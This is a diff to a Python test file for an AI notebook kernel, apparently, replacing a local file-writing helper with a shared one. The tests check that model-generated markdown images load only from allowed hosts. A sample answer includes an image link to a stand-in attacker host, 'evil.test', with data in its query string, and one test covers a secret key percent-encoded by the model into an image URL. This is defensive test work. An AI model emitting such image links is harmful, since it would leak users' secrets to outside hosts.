@@ -14,16 +14,12 @@ from pathlib import Path
 from typing import Any
 from urllib.parse import quote
 
+from ..support.files import write_json
+
 ANSWER = (
     "Charts: ![u](https://user.test/u.png) ![p](https://project.test/p.png) "
     "![m](https://managed.test/m.png) ![e](https://evil.test/e.png?d=secret)"
 )
-
-
-def _write(path: Path, data: dict[str, Any]) -> Path:
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text(json.dumps(data))
-    return path
 
 
 def _images(html: str) -> list[str]:
@@ -43,8 +39,8 @@ def _answer_html(kernel: Any) -> str:
 def test_the_users_hosts_load_a_project_files_do_not(
     start_kernel, model_server, workspace: Path, co_home: Path
 ):
-    user_file = _write(co_home / "config" / "settings.json", {"image_hosts": ["user.test"]})
-    _write(workspace / ".co" / "settings.json", {"image_hosts": ["project.test", "evil.test"]})
+    user_file = write_json(co_home / "config" / "settings.json", {"image_hosts": ["user.test"]})
+    write_json(workspace / ".co" / "settings.json", {"image_hosts": ["project.test", "evil.test"]})
     kernel = start_kernel()  # the folder is trusted: "never" holds even so
     first = kernel.execute("%status")
     assert (
@@ -66,8 +62,8 @@ def test_the_users_hosts_load_a_project_files_do_not(
 def test_a_deployers_hosts_load_and_lock_the_list(
     start_kernel, model_server, co_home: Path, tmp_path: Path
 ):
-    managed = _write(tmp_path / "etc-co" / "settings.json", {"image_hosts": ["managed.test"]})
-    _write(co_home / "config" / "settings.json", {"image_hosts": ["user.test"]})
+    managed = write_json(tmp_path / "etc-co" / "settings.json", {"image_hosts": ["managed.test"]})
+    write_json(co_home / "config" / "settings.json", {"image_hosts": ["user.test"]})
     kernel = start_kernel({"CO_MANAGED_SETTINGS": str(managed)})
     model_server.extend([{"text": ANSWER}])
     html = _answer_html(kernel)
@@ -83,7 +79,7 @@ def test_a_secret_written_encoded_in_an_image_url_is_not_shown_decoded(
     """The placeholder shows a URL decoded; a key of the person's, %-encoded in it by the
     model, must not become readable in the output (nor in the notebook it is saved in)."""
     key = "sk-test-Zq81/xY+secret"
-    _write(co_home / "config" / "settings.json", {"api_key": key})
+    write_json(co_home / "config" / "settings.json", {"api_key": key})
     kernel = start_kernel()
     encoded = quote(key, safe="")
     assert key not in encoded
